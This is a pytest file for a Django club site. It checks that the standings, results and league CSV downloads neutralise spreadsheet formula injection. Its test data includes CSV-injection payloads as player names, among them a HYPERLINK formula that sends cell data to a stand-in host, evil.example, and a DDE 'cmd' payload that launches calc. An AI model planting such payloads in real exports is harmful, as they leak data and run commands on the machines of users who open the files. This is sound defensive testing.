"""Every CSV the site writes opens safely and cleanly in a spreadsheet."""

import codecs
import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from bench.league import play_drive
from drives.downloads import FORMULA_STARTS, spreadsheet_cell
from drives.models import LeagueRule, SeatRole
from tests.conftest import make_drive, make_player, make_season

pytestmark = pytest.mark.django_db

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Prize list")',
    "=1+1",
    "+44 7700 900123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tTabitha",
    "\rCarriage",
]
ACCENTED = "Zoé Ősz-Ünnepné ♥♦♠♣"


@pytest.fixture
def played(club):
    season = make_season(club, league_rule=LeagueRule.BEST, best_n=1)
    players = [
        make_player(club, name=name, role=(SeatRole.LADY, SeatRole.GENT)[number % 2])
        for number, name in enumerate([*RISKY, ACCENTED])
    ]
    # One round of four deals: partners score alike, so every rank is shared ("=1").
    drive = make_drive(club, season=season, deals=4, deals_per_round=4)
    play_drive(drive, players, seed=3)
    return drive, season


def read_back(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def downloads(drive, season):
    return {
        "standings": reverse("drives:standings_csv", args=[drive.pk]),
        "results": reverse("drives:results_csv", args=[drive.pk]),
        "league": reverse("drives:league_csv", args=[season.pk]),
    }


def test_no_cell_of_any_csv_can_run_as_a_formula(client, played):
    for name, url in downloads(*played).items():
        rows = read_back(client.get(url))
        cells = [cell for row in rows[1:] for cell in row]
        formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
        assert formulas == [], name
        for risky in RISKY:
            assert "'" + risky in cells, (name, risky)
        assert ACCENTED in cells, name


def test_shared_ranks_are_text_not_formulas(client, played):
    drive, _ = played
    rows = read_back(client.get(reverse("drives:standings_csv", args=[drive.pk])))
    ranks = [row[0] for row in rows[1:]]
    assert "'=1" in ranks
    assert not any(rank.startswith("=") for rank in ranks)


def test_numbers_stay_numbers_and_text_that_looks_like_a_formula_does_not():
    assert spreadsheet_cell(-4) == -4
    assert spreadsheet_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert spreadsheet_cell("-4") == "'-4"
    assert spreadsheet_cell("=3") == "'=3"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell("Ann = Bob") == "Ann = Bob"
